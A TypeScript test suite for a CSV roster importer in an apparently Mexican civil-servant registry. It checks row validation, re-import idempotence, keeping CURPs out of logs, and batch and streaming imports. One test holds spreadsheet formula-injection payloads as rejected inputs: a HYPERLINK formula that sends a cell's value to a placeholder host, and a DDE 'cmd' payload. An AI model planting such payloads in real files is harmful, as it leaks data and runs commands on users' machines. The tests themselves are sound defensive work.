import { randomBytes, randomUUID } from 'node:crypto';
import { createWriteStream } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { once } from 'node:events';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApplication, type Application } from '../../src/app/application.js';
import { PersonGenerator } from '../../src/app/demo/people.js';
import { importRoster, RosterFileError, type RosterImportProgress } from '../../src/app/roster/import.js';
import { NotFoundError } from '../../src/domain/shared/errors.js';
import { postgresTestSchema } from '../support/postgres.js';
import { temporarySqliteFile, type TemporarySqliteFile } from '../support/sqlite.js';

const FIXTURE = new URL('../fixtures/roster-sample.csv', import.meta.url).pathname;
const HEADER = 'curp,full_name,state,municipality,department,position,regime,unionized,registered_at';
const actor = 'hr-operator';

async function openApplication(file: TemporarySqliteFile, project: boolean): Promise<Application> {
  const url = `sqlite:${file.path}`;
  return createApplication(
    { eventStoreUrl: url, readStoreUrl: url, databaseSchema: 'public', masterKey: randomBytes(32) },
    { logger: pino({ level: 'silent' }), project },
  );
}

/** Every line of the fixture that must be refused, with why. */
const EXPECTED_REJECTIONS = [
  { line: 5, reason: 'CURP check digit does not match' },
  { line: 6, reason: 'missing value for department' },
  { line: 7, reason: 'regime is unknown: use BASE, CONFIANZA, EVENTUAL, HONORARIOS' },
  { line: 8, reason: expect.stringMatching(/^unionized is not a yes\/no value/) },
  { line: 9, reason: 'duplicate CURP: the same CURP is on line 2' },
  { line: 10, reason: expect.stringMatching(/^registered_at is not a date/) },
  { line: 11, reason: expect.stringMatching(/^the row has 10 fields but the header has 9/) },
  { line: 12, reason: 'CURP must have 18 characters' },
  { line: 13, reason: 'full_name may only hold letters, spaces, apostrophes, hyphens and dots' },
  { line: 14, reason: 'registered_at may not be in the future' },
  { line: 15, reason: 'position may not contain control characters' },
  { line: 19, reason: 'department (column 5) starts with "=", which a spreadsheet could run as a formula: remove it' },
];

describe('importRoster', () => {
  let dir: string;
  let file: TemporarySqliteFile;
  let app: Application;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'acredita-roster-'));
    file = await temporarySqliteFile();
    app = await openApplication(file, true);
    // Registered by hand before the import: the roster's row for this CURP is already present.
    await app.office.registerServant(
      {
        curp: 'IANA851103HSLBXN06',
        fullName: 'José Ángel Ibáñez Núñez',
        state: 'Baja California',
        municipality: 'Tijuana',
        department: 'Tesorería Municipal',
        regime: 'CONFIANZA',
        unionized: false,
      },
      { occurredAt: new Date('2018-01-02T17:00:00Z'), now: new Date(), actor, commandId: 'by-hand-1', correlationId: null },
    );
  });

  afterAll(async () => {
    await app?.close();
    await file?.remove();
    await rm(dir, { recursive: true, force: true });
  });

  const servantWithCurp = async (curp: string) => app.readModel.servantByCurpDigest(app.vault.curpDigest(curp));

  it('keeps the good rows, accents and quoted commas included, and reports each bad row by line', async () => {
    const progress: RosterImportProgress[] = [];
    const result = await importRoster(app, FIXTURE, { actor, onProgress: (p) => progress.push(p) });

    expect(result).toEqual({ imported: 3, alreadyPresent: 1, rejected: EXPECTED_REJECTIONS });
    expect(progress.at(-1)).toMatchObject({ rows: 16, bytesRead: progress.at(-1)!.totalBytes });

    await app.readModel.waitFor(await app.store.headPosition());
    expect(await servantWithCurp('MUPA790412MBCXXN04')).toMatchObject({
      fullName: 'María de los Ángeles Muñoz Peña',
      department: 'Oficialía Mayor',
      position: 'Auxiliar administrativa, Delegación La Mesa',
      regime: 'BASE',
      unionized: true,
      registeredAt: '2018-03-01T00:00:00.000Z',
    });
    expect(await servantWithCurp('ZUCB900125MBCXSG07')).toMatchObject({
      curp: 'ZUCB900125MBCXSG07',
      fullName: 'Begoña Zúñiga Castañeda',
      position: null,
      regime: 'HONORARIOS',
      unionized: false,
      registeredAt: '2018-09-18T17:00:00.000Z',
    });
    expect(await servantWithCurp('CUOI720730HJCRRX01')).toMatchObject({
      fullName: 'Íñigo De la Cruz Orduño',
      department: 'Dirección de Atención Ciudadana',
      position: 'Orientador ciudadano, "módulo 3"',
      unionized: false,
    });
    // The servant registered by hand is untouched.
    expect(await servantWithCurp('IANA851103HSLBXN06')).toMatchObject({ department: 'Tesorería Municipal', registeredAt: '2018-01-02T17:00:00.000Z' });
  });

  it('appends nothing when the same file is imported again', async () => {
    const head = await app.store.headPosition();
    const result = await importRoster(app, FIXTURE, { actor });
    expect(result).toEqual({ imported: 0, alreadyPresent: 4, rejected: EXPECTED_REJECTIONS });
    expect(await app.store.headPosition()).toBe(head);
  });

  it('never writes a CURP in clear into the event log', async () => {
    const events = await app.store.readAll({ limit: 10_000 });
    const log = JSON.stringify(events, (_key, value) => (typeof value === 'bigint' ? String(value) : value));
    for (const curp of ['MUPA790412MBCXXN04', 'ZUCB900125MBCXSG07', 'CUOI720730HJCRRX01']) {
      expect(log).not.toContain(curp);
      // Nor its keyed digest: a command id derived from it would link the CURP to the servant after an erasure.
      expect(log).not.toContain(app.vault.curpDigest(curp));
    }
    expect(events.filter((e) => e.metadata.commandId?.startsWith('roster-import-'))).toHaveLength(3);
  });

  it('refuses a file whose header lacks required columns, appending nothing', async () => {
    const path = join(dir, 'no-regime.csv');
    await writeFile(path, 'curp,full_name,state,municipality,department,unionized,colour\nMUPA790412MBCXXN04,A B,BC,Tijuana,X,true,red\n');
    const head = await app.store.headPosition();
    const error = await importRoster(app, path, { actor }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RosterFileError);
    expect(error).toMatchObject({ code: 'BAD_USER_INPUT' });
    expect((error as Error).message).toMatch(/column 7 of the header is not a known column; missing column regime/);
    expect((error as Error).message).not.toContain('colour');
    expect(await app.store.headPosition()).toBe(head);
  });

  it('refuses an empty file and a missing one', async () => {
    const empty = join(dir, 'empty.csv');
    await writeFile(empty, '\uFEFF\r\n');
    await expect(importRoster(app, empty, { actor })).rejects.toThrow(/empty: it needs a header row/);
    await expect(importRoster(app, join(dir, 'nowhere.csv'), { actor })).rejects.toBeInstanceOf(NotFoundError);
  });

  it('stops at broken CSV quoting, keeping the rows before it, and finishes once the file is fixed', async () => {
    const people = new PersonGenerator(7);
    const rows = Array.from({ length: 4 }, () => people.next()).map(
      (p) => `${p.curp},${p.fullName},Baja California,Tecate,Oficialía Mayor,,BASE,true,2018-05-02`,
    );
    const broken = [HEADER, rows[0], rows[1], rows[2].replace(',Oficialía Mayor,', ',"Oficialía" Mayor,'), rows[3]];
    const path = join(dir, 'broken.csv');
    await writeFile(path, broken.join('\n') + '\n');
    const error = await importRoster(app, path, { actor }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RosterFileError);
    expect((error as Error).message).toMatch(/^Line 4 is not valid CSV: a quoted value has text after its closing quote/);
    expect((error as Error).message).toMatch(/after 2 imported, 0 already present and 0 rejected rows/);

    await writeFile(path, [HEADER, ...rows].join('\n') + '\n');
    expect(await importRoster(app, path, { actor })).toEqual({ imported: 2, alreadyPresent: 2, rejected: [] });
  });

  it('refuses cells a spreadsheet would run as formulas, naming line and column, and keeps the good rows', async () => {
    const people = new PersonGenerator(13);
    const row = (department: string, position = '', fullName?: string) => {
      const p = people.next();
      return { curp: p.curp, text: `${p.curp},${fullName ?? p.fullName},Baja California,Ensenada,${department},${position},BASE,true,2018-05-02` };
    };
    const rows = [
      row('"=HYPERLINK(""http://example.test/?leak=""&A1,""Ver"")"'),
      row('Oficialía Mayor', "+cmd|' /C calc'!A0"),
      row('@SUM(1+1)'),
      row('\tOficialía Mayor'),
      row('"\t=1+1"'),
      row('\r=1+1'),
      row('Tesorería Municipal', '-'),
      row('Sindicatura', '', '-Ana Pérez'),
      row('  =1+1'),
      // Kept: a formula sign inside a value, spaces before a quoted value, and a blank last cell on CRLF lines below.
      row('Oficialía Mayor', 'Jefe de área - turno 2 = matutino'),
      row('  Tesorería Municipal', ' "Auxiliar, @ventanilla"'),
    ];
    const path = join(dir, 'formulas.csv');
    await writeFile(path, [HEADER, ...rows.map((r) => r.text), row('Delegaciones').text.replace(/2018-05-02$/, '')].join('\r\n') + '\r\n');
    const before = await app.store.headPosition();

    const result = await importRoster(app, path, { actor });
    const reason = (column: string, index: number, what: string) =>
      `${column} (column ${index}) starts with ${what}, which a spreadsheet could run as a formula: remove it`;
    expect(result).toEqual({
      imported: 3,
      alreadyPresent: 0,
      rejected: [
        { line: 2, reason: reason('department', 5, '"="') },
        { line: 3, reason: reason('position', 6, '"+"') },
        { line: 4, reason: reason('department', 5, '"@"') },
        { line: 5, reason: reason('department', 5, 'a tab') },
        { line: 6, reason: reason('department', 5, 'a tab') },
        { line: 7, reason: reason('department', 5, 'a carriage return') },
        { line: 8, reason: reason('position', 6, '"-"') },
        { line: 9, reason: reason('full_name', 2, '"-"') },
        { line: 10, reason: reason('department', 5, '"="') },
      ],
    });
    // The refused rows appended nothing; the three good ones did.
    await app.readModel.waitFor(await app.store.headPosition());
    expect((await app.store.readAll({ after: before, limit: 1_000 })).filter((e) => e.type === 'ServantRegistered')).toHaveLength(3);
    for (const refused of rows.slice(0, 9)) expect(await servantWithCurp(refused.curp)).toBeNull();
    expect(await servantWithCurp(rows[9].curp)).toMatchObject({ department: 'Oficialía Mayor', position: 'Jefe de área - turno 2 = matutino' });
    expect(await servantWithCurp(rows[10].curp)).toMatchObject({ department: 'Tesorería Municipal', position: 'Auxiliar, @ventanilla' });
  });

  it('stops at a quote never closed instead of reading the rest of the file into one row', async () => {
    const path = join(dir, 'unclosed.csv');
    const filler = 'AAAA000101HBCXXX00,Nadie,Baja California,Tecate,X,,BASE,true,\n'.repeat(5_000);
    await writeFile(path, `${HEADER}\nAAAA000101HBCXXX00,"Nadie,Baja California,Tecate,X,,BASE,true,\n${filler}`);
    await expect(importRoster(app, path, { actor })).rejects.toThrow(/^Line 2 is not valid CSV: the row is longer than 64 KB/);
  });
});

/**
 * Rows are registered in batches (claims together, one append): every rule of
 * a registration one by one still holds across and inside batches, on both SQL stores.
 */
describe.each(['sqlite', 'postgres'] as const)('importRoster in batches on %s', (backend) => {
  const ROWS = 1_200;
  let dir: string;
  let app: Application | null = null;
  let cleanUp: () => Promise<void> = async () => {};

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'acredita-roster-batches-'));
    if (backend === 'sqlite') {
      const file = await temporarySqliteFile();
      app = await openApplication(file, false);
      cleanUp = () => file.remove();
      return;
    }
    const schema = await postgresTestSchema();
    if (!schema) return;
    app = await createApplication(
      { eventStoreUrl: schema.url, readStoreUrl: schema.url, databaseSchema: schema.schema, masterKey: randomBytes(32) },
      { logger: pino({ level: 'silent' }), project: false },
    );
    cleanUp = schema.drop;
  });

  afterAll(async () => {
    await app?.close();
    await cleanUp();
    await rm(dir, { recursive: true, force: true });
  });

  it('reports bad rows and duplicates by line, takes over abandoned CURP claims, counts present ones, and appends nothing the second time', async (ctx) => {
    if (!app) return ctx.skip();
    const people = new PersonGenerator(31);
    const persons = Array.from({ length: ROWS }, () => people.next());
    const line = (i: number) => i + 2;
    const BAD = 700;
    const DUPLICATE = 1_100;
    const BY_HAND = 30;
    const ABANDONED = 520;
    const IN_FLIGHT = 999;
    // Registered through the office before the import.
    await app.office.registerServant(
      { curp: persons[BY_HAND].curp, fullName: persons[BY_HAND].fullName, state: 'Baja California', municipality: 'Tecate', department: 'Tesorería Municipal', regime: 'BASE', unionized: true },
      { occurredAt: new Date('2018-01-02T17:00:00Z'), now: new Date(), actor, commandId: 'by-hand-batches', correlationId: null },
    );
    // Claimed by registrations that never happened: one two minutes ago (abandoned), one just now (maybe in flight).
    await app.vault.claimCurp(persons[ABANDONED].curp, randomUUID(), new Date(Date.now() - 120_000));
    await app.vault.claimCurp(persons[IN_FLIGHT].curp, randomUUID(), new Date());
    const rows = persons.map((p, i) => {
      const curp = i === DUPLICATE ? persons[10].curp : p.curp;
      return `${curp},"${p.fullName}",Baja California,Tecate,${i === BAD ? '' : 'Oficialía Mayor'},,BASE,no,2018-06-01`;
    });
    const path = join(dir, 'batches.csv');
    await writeFile(path, [HEADER, ...rows].join('\r\n') + '\r\n');
    const rejected = [
      { line: line(BAD), reason: 'missing value for department' },
      { line: line(DUPLICATE), reason: `duplicate CURP: the same CURP is on line ${line(10)}` },
    ];
    const head = await app.store.headPosition();
    const progress: number[] = [];

    const first = await importRoster(app, path, { actor, onProgress: (p) => progress.push(p.rows) });
    expect(first).toEqual({ imported: ROWS - 4, alreadyPresent: 2, rejected });
    expect(progress).toEqual(Array.from({ length: ROWS }, (_, i) => i + 1));
    const appended = await app.store.readAll({ after: head, limit: 10_000 });
    expect(appended).toHaveLength(ROWS - 4);
    expect(new Set(appended.map((e) => e.type))).toEqual(new Set(['ServantRegistered']));
    // Each row's command id names its line; the take-over registered the abandoned row.
    const lines = new Set(appended.map((e) => Number(e.metadata.commandId!.split('-line-')[1])));
    expect(lines.has(line(ABANDONED))).toBe(true);
    for (const skipped of [BAD, DUPLICATE, BY_HAND, IN_FLIGHT]) expect(lines.has(line(skipped))).toBe(false);

    const again = await importRoster(app, path, { actor });
    expect(again).toEqual({ imported: 0, alreadyPresent: ROWS - 2, rejected });
    expect((await app.store.readAll({ after: head, limit: 10_000 })).length).toBe(ROWS - 4);
  }, 120_000);
});

/**
 * A roster as large as a state's payroll. 100,000 rows take minutes on SQLite
 * (a CURP claim, a data key and an append per registration), so the default run imports 2,000 and
 * STRESS=1 the full 100,000; both stream the file.
 */
describe('importRoster on a large file', () => {
  const ROWS = process.env.STRESS ? 100_000 : 2_000;
  let dir: string;
  let file: TemporarySqliteFile;
  let app: Application;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'acredita-roster-big-'));
    file = await temporarySqliteFile();
    app = await openApplication(file, false);
  });

  afterAll(async () => {
    await app?.close();
    await file?.remove();
    await rm(dir, { recursive: true, force: true });
  });

  it(`imports ${ROWS.toLocaleString('en')} rows while reading the file in pieces`, async () => {
    const path = join(dir, 'roster.csv');
    const out = createWriteStream(path);
    out.write(`\uFEFF${HEADER}\r\n`);
    const people = new PersonGenerator(2024);
    for (let i = 0; i < ROWS; i++) {
      const p = people.next();
      if (!out.write(`${p.curp},"${p.fullName}",Baja California,Tijuana,Oficialía Mayor,"Auxiliar, turno ${i % 3}",BASE,sí,\r\n`)) {
        await once(out, 'drain');
      }
    }
    out.end();
    await once(out, 'finish');

    let firstProgress: RosterImportProgress | undefined;
    const result = await importRoster(app, path, { actor, onProgress: (p) => (firstProgress ??= { ...p }) });
    expect(result).toEqual({ imported: ROWS, alreadyPresent: 0, rejected: [] });
    // The first row was registered when only the first pieces of the file had been read.
    expect(firstProgress!.rows).toBe(1);
    expect(firstProgress!.bytesRead).toBeLessThan(firstProgress!.totalBytes / 2);
    expect(firstProgress!.bytesRead).toBeLessThanOrEqual(256 * 1024);
  }, 600_000);
});
